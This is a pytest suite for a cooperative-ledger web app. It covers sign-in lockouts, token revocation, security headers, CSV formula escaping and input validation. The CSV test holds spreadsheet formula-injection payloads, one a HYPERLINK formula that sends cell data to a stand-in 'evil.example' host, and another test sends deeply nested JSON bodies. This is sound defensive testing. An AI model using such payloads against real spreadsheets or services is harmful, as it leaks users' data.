"""Hardened sign-in and API: lockouts, expiring and revocable tokens, security headers,
formula-safe CSV, 4xx (never 500) for malformed input, cluster membership by role."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from litestar.testing import TestClient

from coopledger import Ledger
from coopledger.testing import D1, D2, FORMED, seed_group
from coopweb import Accounts, create_app
from coopweb.security import CSP, SignInGuard, csv_writer

PASSWORD = "a-long-password"


@pytest.fixture
def ledger(sqlite_ledger: Ledger) -> Ledger:
    for code in ("JOBA", "KAKOLI", "DOEL"):
        seed_group(sqlite_ledger, code, members=2)
    with sqlite_ledger.db.cursor(commit=True) as c:
        c.execute("UPDATE cl_groups SET partner = 'SUSTAIN' WHERE code IN ('JOBA', 'KAKOLI')")
    return sqlite_ledger


@pytest.fixture
def app(ledger: Ledger) -> Any:
    app = create_app(ledger, load_entry_points=False, secure_cookies=False)
    accounts: Accounts = app.state.accounts
    accounts.save("rina", role="animator", password=PASSWORD, groups=["JOBA"])
    accounts.save("shila", role="animator", password=PASSWORD, groups=["KAKOLI"])
    accounts.save("mita", role="manager", password=PASSWORD, partner="SUSTAIN")
    accounts.save("other", role="manager", password=PASSWORD, partner="ELSEWHERE")
    accounts.save("audit", role="auditor", password=PASSWORD)
    accounts.save("root", role="admin", password=PASSWORD)
    return app


@pytest.fixture
def client(app: Any) -> Iterator[TestClient[Any]]:
    with TestClient(app) as c:
        yield c


def sign_in(client: TestClient[Any], username: str, password: str = PASSWORD) -> Any:
    client.get("/login")
    return client.post(
        "/login",
        data={
            "username": username,
            "password": password,
            "_csrf_token": client.cookies.get("csrftoken"),
        },
    )


def issue(client: TestClient[Any], username: str, password: str = PASSWORD) -> Any:
    return client.post("/api/v1/tokens", json={"username": username, "password": password})


def bearer(client: TestClient[Any], username: str) -> dict[str, str]:
    r = issue(client, username)
    assert r.status_code == 201, r.text
    return {"authorization": f"Bearer {r.json()['token']}"}


# ---------------------------------------------------------------------- lockouts
def test_repeated_failures_lock_the_account_even_for_the_right_password(
    client: TestClient[Any],
) -> None:
    for _ in range(5):
        assert sign_in(client, "rina", "wrong-password").status_code == 401
    r = sign_in(client, "rina")
    assert r.status_code == 429
    assert 0 < int(r.headers["retry-after"]) <= 15 * 60
    assert "Too many failed sign-ins" in r.text
    api = issue(client, "rina")
    assert api.status_code == 429
    assert api.headers["content-type"].startswith("application/problem+json")
    assert api.json()["field"] == "username"
    assert int(api.headers["retry-after"]) > 0
    # another account is not locked by rina's failures
    assert issue(client, "audit").status_code == 201


def test_a_success_clears_the_account_s_failures(client: TestClient[Any]) -> None:
    for _ in range(4):
        assert issue(client, "rina", "wrong-password").status_code == 401
    assert issue(client, "rina").status_code == 201
    for _ in range(4):
        assert issue(client, "rina", "wrong-password").status_code == 401
    assert issue(client, "rina").status_code == 201


def test_many_failures_from_one_address_lock_the_address(app: Any) -> None:
    app.state.guard = SignInGuard(app.state.store.with_namespace("strict"), address_attempts=6)
    with TestClient(app) as client:
        for i in range(6):  # a different guessed account each time
            assert issue(client, f"guess{i}", "wrong-password").status_code == 401
        r = issue(client, "audit")
        assert r.status_code == 429
        sign_in(client, "root")  # also locked for the pages
        assert sign_in(client, "root").status_code == 429


def test_an_admin_sees_and_lifts_a_lockout(app: Any) -> None:
    with TestClient(app) as attacker:
        for _ in range(5):
            issue(attacker, "rina", "wrong-password")
        assert issue(attacker, "rina").status_code == 429
    with TestClient(app) as admin:
        assert sign_in(admin, "root").status_code == 200
        page = admin.get("/admin/accounts").text
        section = page[page.index('id="lockouts"') :]
        assert "rina" in section
        assert "Lift the lock" in section
        r = admin.post(
            "/admin/lockouts",
            data={
                "kind": "account",
                "subject": "rina",
                "_csrf_token": admin.cookies.get("csrftoken"),
            },
        )
        assert r.status_code == 200
        assert "No account or address is locked" in r.text
        bad = admin.post(
            "/admin/lockouts",
            data={"kind": "nope", "subject": "", "_csrf_token": admin.cookies.get("csrftoken")},
        )
        assert bad.status_code == 400
    with TestClient(app) as later:
        assert issue(later, "rina").status_code == 201


def test_only_an_admin_lifts_lockouts(client: TestClient[Any]) -> None:
    sign_in(client, "mita")
    r = client.post(
        "/admin/lockouts",
        data={"kind": "account", "subject": "x", "_csrf_token": client.cookies.get("csrftoken")},
    )
    assert r.status_code == 403


# ---------------------------------------------------------------------- tokens
def test_a_token_expires_and_is_listed_and_revoked_one_by_one(
    client: TestClient[Any], app: Any
) -> None:
    r = issue(client, "rina")
    assert r.status_code == 201
    body = r.json()
    expires = datetime.fromisoformat(body["expires_at"])
    assert timedelta(days=29) < expires - datetime.now(tz=UTC) <= timedelta(days=30)
    first = {"authorization": f"Bearer {body['token']}"}
    second = bearer(client, "rina")
    listed = client.get("/api/v1/tokens", headers=first).json()
    assert body["id"] in {t["id"] for t in listed}
    assert len(listed) == 2
    assert all("token" not in t for t in listed)  # the secret is shown once, at issue
    assert client.delete(f"/api/v1/tokens/{body['id']}", headers=second).status_code == 204
    assert client.get("/api/v1/groups", headers=first).status_code == 401
    assert client.get("/api/v1/groups", headers=second).status_code == 200
    missing = client.delete("/api/v1/tokens/nope", headers=second)
    assert missing.status_code == 404
    # an expired token is refused
    with app.state.ledger.db.cursor(commit=True) as c:
        c.execute(
            "UPDATE cw_api_tokens SET expires_at = ?",
            ((datetime.now(tz=UTC) - timedelta(seconds=1)).isoformat(),),
        )
    assert client.get("/api/v1/groups", headers=second).status_code == 401


def test_all_tokens_are_revoked_at_once(client: TestClient[Any]) -> None:
    tokens = [bearer(client, "rina") for _ in range(3)]
    r = client.delete("/api/v1/tokens", headers=tokens[0])
    assert r.status_code == 200
    assert r.json() == {"revoked": 3}
    for auth in tokens:
        assert client.get("/api/v1/groups", headers=auth).status_code == 401


def test_one_account_cannot_revoke_another_s_tokens_but_an_admin_can(
    client: TestClient[Any],
) -> None:
    rina = bearer(client, "rina")
    token_id = client.get("/api/v1/tokens", headers=rina).json()[0]["id"]
    mita = bearer(client, "mita")
    assert client.delete(f"/api/v1/tokens/{token_id}", headers=mita).status_code == 404
    assert client.get("/api/v1/tokens?username=rina", headers=mita).status_code == 403
    assert client.get("/api/v1/groups", headers=rina).status_code == 200
    root = bearer(client, "root")
    assert [t["id"] for t in client.get("/api/v1/tokens?username=rina", headers=root).json()] == [
        token_id
    ]
    r = client.delete(f"/api/v1/tokens/{token_id}?username=rina", headers=root)
    assert r.status_code == 204
    assert client.get("/api/v1/groups", headers=rina).status_code == 401


@pytest.mark.parametrize(
    "change",
    [
        {"password": "a-new-long-password"},
        {"role": "auditor"},
        {"active": False},
    ],
    ids=["password", "role", "deactivation"],
)
def test_tokens_are_revoked_when_the_account_changes(
    client: TestClient[Any], app: Any, change: dict[str, Any]
) -> None:
    auth = bearer(client, "rina")
    kept = bearer(client, "audit")
    settings = {"role": "animator", "groups": ["JOBA"], **change}
    app.state.accounts.save("rina", **settings)
    assert client.get("/api/v1/groups", headers=auth).status_code == 401
    assert client.get("/api/v1/groups", headers=kept).status_code == 200
    # reactivating (or changing back) does not bring the old token back
    app.state.accounts.save("rina", role="animator", groups=["JOBA"], active=True)
    assert client.get("/api/v1/groups", headers=auth).status_code == 401


def test_a_change_of_groups_alone_keeps_the_tokens(client: TestClient[Any], app: Any) -> None:
    auth = bearer(client, "rina")
    app.state.accounts.save("rina", role="animator", groups=["JOBA", "DOEL"])
    assert client.get("/api/v1/groups/DOEL", headers=auth).status_code == 200


def test_the_accounts_page_lists_tokens_and_revokes_them(client: TestClient[Any]) -> None:
    auth = bearer(client, "rina")
    sign_in(client, "root")
    page = client.get("/admin/accounts").text
    assert "/admin/accounts/rina/revoke-tokens" in page
    r = client.post(
        "/admin/accounts/rina/revoke-tokens",
        data={"_csrf_token": client.cookies.get("csrftoken")},
    )
    assert r.status_code == 200
    assert client.get("/api/v1/groups", headers=auth).status_code == 401


# ---------------------------------------------------------------------- headers
def test_every_response_carries_the_security_headers(client: TestClient[Any]) -> None:
    auth = bearer(client, "rina")
    responses = [
        client.get("/login"),
        client.get("/static/coopweb/app.css"),
        client.get("/api/v1/groups", headers=auth),
        client.get("/api/v1/groups"),  # 401
        client.get("/nowhere"),  # 404
        client.get("/schema/openapi.json"),
    ]
    sign_in(client, "rina")
    responses += [client.get("/groups/JOBA"), client.get("/groups/DOEL")]  # 200, 403
    for r in responses:
        assert r.headers["content-security-policy"] == CSP, r.url
        assert "script-src 'self';" in CSP
        assert "frame-ancestors 'none'" in CSP
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "same-origin"
        assert "strict-transport-security" not in r.headers  # plain HTTP here


def test_the_pages_need_no_inline_script_or_style(client: TestClient[Any]) -> None:
    """What the CSP would refuse: inline <script>/<style>, style= and on...= attributes."""
    sign_in(client, "rina")
    for url in (
        "/login",
        "/groups",
        "/groups/JOBA",
        "/groups/JOBA/members/1",
        "/groups/JOBA/history",
        "/groups/JOBA/reports",
    ):
        html = client.get(url).text
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), url
        assert "<style" not in html, url
        assert not re.search(r"\sstyle=", html), url
        assert not re.search(r"\son[a-z]+=", html), url
        assert '"includeIndicatorStyles":false' in html  # htmx injects no <style>


# ---------------------------------------------------------------------- CSV
@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1"],
)
def test_csv_cells_cannot_become_formulas(
    client: TestClient[Any], ledger: Ledger, name: str
) -> None:
    ledger.join_member(
        "JOBA",
        name=name,
        household="H9",
        gender="female",
        community="Hindu",
        landless=True,
        wellbeing="poor",
        date=FORMED,
    )
    sign_in(client, "rina")
    r = client.get("/groups/JOBA/reports/members.csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    cell = rows[-1][1]
    assert cell == "'" + name.strip() or cell == "'" + name, cell
    assert cell[0] not in "=+-@\t\r"


def test_the_csv_writer_keeps_numbers_and_plain_text() -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["-2.50", "plain", 5, "=1", "\rx", ""])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "-2.50",
        "plain",
        "5",
        "'=1",
        "'\rx",
        "",
    ]


# ---------------------------------------------------------------------- never a 500
@pytest.mark.parametrize("command", [{}, [], 5, None])
@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/groups/JOBA/entries",
        "/api/v1/groups/JOBA/meetings",
        "/api/v1/clusters/CP1/entries",
    ],
)
def test_a_command_that_is_not_a_name_is_a_4xx_naming_the_field(
    client: TestClient[Any], ledger: Ledger, url: str, command: Any
) -> None:
    ledger.form_cluster(
        "CP1",
        name="Cluster one",
        district="Dinajpur",
        upazila="Chirirbandar",
        villages=["Mohalbari"],
        households=150,
        partner="SUSTAIN",
        date=D1,
    )
    ledger.join_cluster("CP1", group="JOBA", date=D1)
    r = client.post(url, headers=bearer(client, "rina"), json={"command": command, "date": str(D2)})
    assert r.status_code == 422, r.text
    assert r.json()["field"] == "command"


@pytest.mark.parametrize(
    "url",
    ["/api/v1/groups/JOBA/entries", "/api/v1/groups/JOBA/meetings", "/api/v1/tokens"],
)
def test_deeply_nested_json_is_a_4xx(client: TestClient[Any], url: str) -> None:
    body = b"[" * 100_000 + b"]" * 100_000
    deep_object = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    auth = bearer(client, "rina")
    for raw in (body, deep_object):
        r = client.post(url, headers={**auth, "content-type": "application/json"}, content=raw)
        assert 400 <= r.status_code < 500, (url, r.status_code, r.text[:200])
        assert r.headers["content-type"].startswith("application/problem+json")
        if url != "/api/v1/tokens":
            assert r.json()["field"] == "body"


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("after=99999999999999999999", "after"),
        ("after=9223372036854775808", "after"),
        ("after=-1", "after"),
        ("limit=99999999999999999999", "limit"),
        ("limit=0", "limit"),
    ],
)
def test_an_event_position_out_of_range_is_a_400(
    client: TestClient[Any], query: str, field: str
) -> None:
    r = client.get(f"/api/v1/groups/JOBA/events?{query}", headers=bearer(client, "rina"))
    assert r.status_code == 400, r.text
    assert r.json()["field"] == field


def test_the_largest_position_is_read(client: TestClient[Any]) -> None:
    r = client.get(
        "/api/v1/groups/JOBA/events?after=9223372036854775807", headers=bearer(client, "rina")
    )
    assert r.status_code == 200
    assert r.json() == []
    sign_in(client, "rina")
    assert client.get("/groups/JOBA/history?after=99999999999999999999").status_code == 200


# ---------------------------------------------------------------------- cluster membership
# who -> may make KAKOLI (shila's group, partner SUSTAIN) leave and rejoin cluster CP1
MEMBERSHIP = {
    "rina": False,  # an animator of another group of the cluster
    "shila": True,  # KAKOLI's own animator (leaving; rejoining needs a manager, below)
    "mita": True,  # a manager of KAKOLI's partner organisation
    "other": False,  # a manager of another partner
    "audit": False,
    "root": False,
}


@pytest.mark.parametrize("username", sorted(MEMBERSHIP))
def test_cluster_membership_follows_the_role_matrix(
    client: TestClient[Any], ledger: Ledger, username: str
) -> None:
    ledger.form_cluster(
        "CP1",
        name="Cluster one",
        district="Dinajpur",
        upazila="Chirirbandar",
        villages=["Mohalbari"],
        households=150,
        partner="SUSTAIN",
        date=D1,
    )
    ledger.join_cluster("CP1", group="JOBA", date=D1)
    ledger.join_cluster("CP1", group="KAKOLI", date=D1)
    auth = bearer(client, username)
    before = ledger.load("KAKOLI").version
    leave = {"command": "leave_cluster", "date": str(D2), "group": "KAKOLI", "reason": "moved"}
    r = client.post("/api/v1/clusters/CP1/entries", headers=auth, json=leave)
    allowed = MEMBERSHIP[username]
    assert r.status_code == (201 if allowed else 403), (username, r.text)
    if not allowed:
        assert ledger.load("KAKOLI").version == before
        return
    join = {"command": "join_cluster", "date": str(D2), "group": "KAKOLI"}
    r = client.post("/api/v1/clusters/CP1/entries", headers=auth, json=join)
    # shila has no group left in CP1, so she records nothing for it; mita may
    assert r.status_code == (201 if username == "mita" else 403), (username, r.text)
    # a group of another partner cannot be brought in by the cluster's manager
    r = client.post(
        "/api/v1/clusters/CP1/entries",
        headers=bearer(client, "mita"),
        json={"command": "join_cluster", "date": str(D2), "group": "DOEL"},
    )
    assert r.status_code == 403
    # the group named must be a name
    r = client.post(
        "/api/v1/clusters/CP1/entries",
        headers=bearer(client, "mita"),
        json={"command": "join_cluster", "date": str(D2), "group": {}},
    )
    assert r.status_code == 422
    assert r.json()["field"] == "group"


def test_sign_in_attempts_are_rate_limited_per_address(ledger: Ledger) -> None:
    """Right or wrong, at most ``sign_in_rate`` attempts per address and period."""
    app = create_app(
        ledger, load_entry_points=False, secure_cookies=False, sign_in_rate=("minute", 3)
    )
    app.state.accounts.save("audit", role="auditor", password=PASSWORD)
    with TestClient(app) as client:
        for _ in range(3):
            assert issue(client, "audit").status_code == 201
        r = issue(client, "audit")
        assert r.status_code == 429
        assert int(r.headers["retry-after"]) > 0
        assert r.headers["content-type"].startswith("application/problem+json")
        page = sign_in(client, "audit")
        assert page.status_code == 429
        assert "retry-after" in page.headers
        # reading is not limited
        assert client.get("/login").status_code == 200
